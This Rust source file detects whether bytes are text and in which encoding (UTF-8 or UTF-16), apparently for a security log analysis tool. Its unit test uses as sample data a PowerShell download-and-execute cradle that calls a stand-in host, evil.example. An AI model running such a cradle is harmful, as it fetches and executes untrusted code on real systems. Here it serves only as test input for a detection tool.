//! Whether bytes are text, and in which encoding, by what they hold.

use super::magic;
use crate::order::sort_by_number;

/// How text was encoded, by the name in column `encoding_type`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Encoding {
    Utf8,
    Utf16Le,
    Utf16Be,
}

impl Encoding {
    pub(super) fn name(self) -> &'static str {
        match self {
            Self::Utf8 => "utf-8",
            Self::Utf16Le => "utf-16le",
            Self::Utf16Be => "utf-16be",
        }
    }
}

/// How much bytes must look like text to be taken for it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Doubt {
    /// The bytes are a file, or said to be encoded.
    Little,
    /// Letters that may be encoded only by chance.
    Much,
}

/// So much text is no chance when all of it can be read.
const LONG: usize = 24;
/// Fewer bytes may be text by chance: 16 letters of base64 are 12 bytes.
const LEAST_BYTES: usize = 12;

/// The text that `bytes` are. A byte order mark is left out, a character that is
/// cut at the end becomes `U+FFFD`.
pub(super) fn decode(bytes: &[u8], doubt: Doubt) -> Option<(String, Encoding)> {
    let (marked, bytes) = match bytes {
        [] => return None,
        [0xff, 0xfe, rest @ ..] if !rest.starts_with(&[0, 0]) => (Some(Encoding::Utf16Le), rest),
        [0xfe, 0xff, rest @ ..] => (Some(Encoding::Utf16Be), rest),
        [0xef, 0xbb, 0xbf, rest @ ..] => (Some(Encoding::Utf8), rest),
        _ => (None, bytes),
    };
    let wide = |encoding| {
        let text = from_utf16(bytes, encoding)?;
        is_plausible(&text, doubt).then_some((text, encoding))
    };
    let (even, odd) = zeros(bytes);
    let units = bytes.len().min(HEAD) / 2;
    if units >= 2 && odd * 2 >= units && even * 8 <= odd {
        return wide(Encoding::Utf16Le);
    }
    if units >= 2 && even * 2 >= units && odd * 8 <= even {
        return wide(Encoding::Utf16Be);
    }
    match (marked, doubt) {
        // Two bytes prove little: `//5ace8413` begins with them.
        (Some(encoding @ (Encoding::Utf16Le | Encoding::Utf16Be)), Doubt::Little) => {
            return wide(encoding);
        }
        (None | Some(Encoding::Utf8), _) => {
            if let Some(text) = from_utf8(bytes, doubt).filter(|text| is_plausible(text, doubt)) {
                return Some((text, Encoding::Utf8));
            }
        }
        _ => {}
    }
    // Text in other letters has few zeros, but keeps to one script.
    [Encoding::Utf16Le, Encoding::Utf16Be]
        .into_iter()
        .filter(|&encoding| begins_in_one_script(bytes, encoding))
        .find_map(|encoding| {
            let text = from_utf16(bytes, encoding)?;
            is_of_one_script(&text, doubt).then_some((text, encoding))
        })
}

/// The text of a file in UTF-16: with a byte order mark, or with the zeros that
/// Latin letters have there. Of other files only the first bytes are looked at.
pub(super) fn of_utf16(bytes: &[u8]) -> Option<String> {
    let is_marked = bytes.starts_with(b"\xff\xfe") || bytes.starts_with(b"\xfe\xff");
    let (even, odd) = zeros(bytes);
    if !is_marked && even.max(odd) * 4 < bytes.len().min(HEAD) {
        return None;
    }
    let (text, encoding) = decode(bytes, Doubt::Little)?;
    (encoding != Encoding::Utf8).then_some(text)
}

const HEAD: usize = 4096;

/// How many of the first bytes in even and odd places are zero.
fn zeros(bytes: &[u8]) -> (usize, usize) {
    let (pairs, _) = bytes[..bytes.len().min(HEAD)].as_chunks::<2>();
    pairs.iter().fold((0, 0), |(even, odd), pair| {
        (
            even + usize::from(pair[0] == 0),
            odd + usize::from(pair[1] == 0),
        )
    })
}

fn from_utf8(bytes: &[u8], doubt: Doubt) -> Option<String> {
    if let Ok(text) = simdutf8::basic::from_utf8(bytes) {
        return Some(text.into());
    }
    let error = std::str::from_utf8(bytes).err()?;
    let least = match doubt {
        Doubt::Little => 1,
        Doubt::Much => LONG,
    };
    let is_cut = error.error_len().is_none() && error.valid_up_to() >= least;
    is_cut.then(|| String::from_utf8_lossy(bytes).into_owned())
}

/// The units of UTF-16, without a byte that is too many.
fn units(bytes: &[u8], encoding: Encoding) -> impl Iterator<Item = u16> + '_ {
    let unit = match encoding {
        Encoding::Utf16Be => u16::from_be_bytes,
        _ => u16::from_le_bytes,
    };
    bytes.as_chunks::<2>().0.iter().map(move |&pair| unit(pair))
}

fn from_utf16(bytes: &[u8], encoding: Encoding) -> Option<String> {
    let (_, rest) = bytes.as_chunks::<2>();
    let units = units(bytes, encoding);
    let mut text: String = char::decode_utf16(units).collect::<Result<_, _>>().ok()?;
    if !rest.is_empty() {
        text.push(char::REPLACEMENT_CHARACTER);
    }
    Some(text)
}

/// Whether text that came out well is meant to be read: hardly any control
/// characters, and, in doubt, letters of few scripts.
fn is_plausible(text: &str, doubt: Doubt) -> bool {
    let count = |set: fn(u8) -> bool| text.bytes().filter(|&byte| set(byte)).count();
    let controls = count(|byte| {
        (byte < 32 && !matches!(byte, 0 | b'\t' | b'\n' | b'\r' | 0x0c | 0x1b)) || byte == 127
    });
    let zeros = memchr::memchr_iter(0, text.as_bytes()).count();
    match doubt {
        Doubt::Little => (controls + zeros) * 20 <= text.len(),
        Doubt::Much => {
            // Zeros part the arguments of a command in audit records.
            let words = text.trim_end_matches('\0');
            text.len() >= LEAST_BYTES
                && controls == 0
                && zeros * 3 <= text.len()
                && memchr::memmem::find(words.as_bytes(), b"\0\0").is_none()
                && (text.is_ascii() || is_of_few_scripts(text))
                && is_wordlike(words)
        }
    }
}

/// Whether short text has mostly letters and digits, or is JSON, as chance does
/// not give it. Long text is no chance when all of it can be read.
fn is_wordlike(text: &str) -> bool {
    let is_word = |c: &char| c.is_alphanumeric() || " \0\n./_-:".contains(*c);
    let words = text.chars().filter(is_word).count();
    let is_line = !text.trim_end().contains(['\r', '\t', '\x0c', '\x1b']);
    text.len() >= LONG
        || is_line && words * 10 >= text.chars().count() * 7
        || magic::identify_text(text).is_some()
}

/// Blocks that fill so much of UTF-16 that chance meets them.
const CHINESE: u32 = 2;
const KOREAN: u32 = 3;

/// The block of 128 code points that a character is in; punctuation, signs and
/// emoji, which go with any script, are in none.
fn block(c: char) -> Option<u32> {
    match c as u32 {
        0..0x80 | 0x2000..0x2c00 | 0x3000..0x3040 | 0xfe00..0xfe10 | 0xff00..0xfff0 => None,
        0xfffd | 0x1f000..0x20000 => None,
        // The letters of Europe, and those of China.
        0x80..0x250 => Some(1),
        0x3400..0xa000 => Some(CHINESE),
        0xac00..0xd7b0 => Some(KOREAN),
        other => Some(other >> 7),
    }
}

fn blocks(text: &str) -> Vec<u32> {
    let mut blocks: Vec<u32> = text.chars().filter_map(block).collect();
    sort_by_number(&mut blocks, |&block| block.into());
    blocks.dedup();
    blocks
}

/// Whether letters beyond ASCII are of one script, or of few in a long text.
fn is_of_few_scripts(text: &str) -> bool {
    const LONG: usize = 64;
    let wide = text.chars().filter(|c| !c.is_ascii());
    let strange = wide.filter(|&c| !c.is_alphabetic() && block(c).is_some());
    let most = if text.len() >= LONG { 3 } else { 1 };
    strange.count() * 4 <= text.chars().count() && blocks(text).len() <= most
}

/// Whether the first letters are of one script, as those of few random bytes are.
fn begins_in_one_script(bytes: &[u8], encoding: Encoding) -> bool {
    const HEAD: usize = 16;
    let head = units(bytes, encoding).take(HEAD);
    let mut blocks = head.filter_map(|unit| char::from_u32(unit.into()).and_then(block));
    let first = blocks.next();
    blocks.all(|block| Some(block) == first)
}

/// Whether all of a text is written in one script beside ASCII: no chance, but
/// no proof for fewer than some characters, or one over and over.
fn is_of_one_script(text: &str, doubt: Doubt) -> bool {
    const LEAST: usize = 10;
    const LEAST_DIFFERENT: usize = 5;
    let mut different: Vec<char> = text.chars().take(64).collect();
    sort_by_number(&mut different, |&c| c.into());
    different.dedup();
    let is_printed = |c: char| {
        c.is_alphanumeric() || c.is_ascii_graphic() || c.is_whitespace() || block(c).is_none()
    };
    let blocks = blocks(text);
    let is_large = blocks.iter().any(|block| [CHINESE, KOREAN].contains(block));
    let count = text.chars().count();
    let ascii = text.bytes().filter(u8::is_ascii).count();
    count >= LEAST
        && text
            .chars()
            .all(|c| is_printed(c) && (c as u32 >= 32 || c.is_whitespace()))
        && different.len() >= LEAST_DIFFERENT
        && blocks.len() <= 1
        && (doubt == Doubt::Little || !is_large || ascii * 4 >= count)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn wide(text: &str, unit: fn(u16) -> [u8; 2]) -> Vec<u8> {
        text.encode_utf16().flat_map(unit).collect()
    }

    #[test]
    fn encodings_are_told_apart() {
        let le = |text| wide(text, u16::to_le_bytes);
        let be = |text| wide(text, u16::to_be_bytes);
        let script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')";
        let russian = "Привет, как дела сегодня?";
        let chinese = "恶意软件 分析报告 v1.0 第一部分";
        type Row<'a> = (&'a str, Vec<u8>, Option<(&'a str, Encoding)>);
        let rows: [Row<'_>; 15] = [
            ("utf-8", script.into(), Some((script, Encoding::Utf8))),
            (
                "PowerShell's -enc",
                le(script),
                Some((script, Encoding::Utf16Le)),
            ),
            ("big endian", be(script), Some((script, Encoding::Utf16Be))),
            (
                "a byte order mark",
                [b"\xff\xfe".to_vec(), le(script)].concat(),
                Some((script, Encoding::Utf16Le)),
            ),
            (
                "Cyrillic in utf-8",
                russian.into(),
                Some((russian, Encoding::Utf8)),
            ),
            (
                "Cyrillic in utf-16",
                le(russian),
                Some((russian, Encoding::Utf16Le)),
            ),
            (
                "Chinese in utf-8",
                chinese.into(),
                Some((chinese, Encoding::Utf8)),
            ),
            (
                "Chinese in utf-16",
                le(chinese),
                Some((chinese, Encoding::Utf16Le)),
            ),
            (
                "arguments of a command",
                b"iptables\0-w\0-t\0filter\0".to_vec(),
                Some(("iptables\0-w\0-t\0filter\0", Encoding::Utf8)),
            ),
            (
                "even ASCII is no Chinese (msticpy's utf16=True)",
                "SGVsbG8gZnJvbSBpbnNpZGU=".into(),
                Some(("SGVsbG8gZnJvbSBpbnNpZGU=", Encoding::Utf8)),
            ),
            ("controls", b"abcdefghijkl\x01\x02".to_vec(), None),
            (
                "an identifier of Zeek's",
                b"\x09\x50\x71\x41\x2d\x76\xc6\x9e\xe8\xa8\x93\x39\xd3".to_vec(),
                None,
            ),
            ("one sign over and over", vec![0xaa; 64], None),
            (
                "a host of hex is no UTF-16 with a mark",
                b"\xff\xfe\x5a\xce\x84\x13\xda\xca\x93\x36\x71\x2e\x45\xa1\x02\x93".to_vec(),
                None,
            ),
            (
                "random",
                (0..64u8)
                    .map(|i| i.wrapping_mul(167).wrapping_add(13))
                    .collect(),
                None,
            ),
        ];
        for (name, bytes, expected) in rows {
            let found = decode(&bytes, Doubt::Much);
            let expected = expected.map(|(text, encoding)| (text.to_string(), encoding));
            assert_eq!(found, expected, "{name}");
        }
    }
}
